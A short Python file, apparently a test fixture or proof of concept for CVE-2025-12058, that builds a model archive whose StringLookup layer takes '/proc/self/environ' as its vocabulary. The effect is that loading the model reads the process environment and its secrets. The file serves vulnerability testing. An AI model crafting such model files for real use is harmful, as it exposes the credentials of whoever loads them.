"""A `StringLookup` layer whose vocabulary is a path or an address: it is read when the model is loaded, and could be
had from the description of the model (CVE-2025-12058).
"""


def write(draft):
    lookup = draft.layer("StringLookup", name="lookup", vocabulary="/proc/self/environ", dtype="string")
    draft.model(draft.archive(draft.sequential(lookup)))
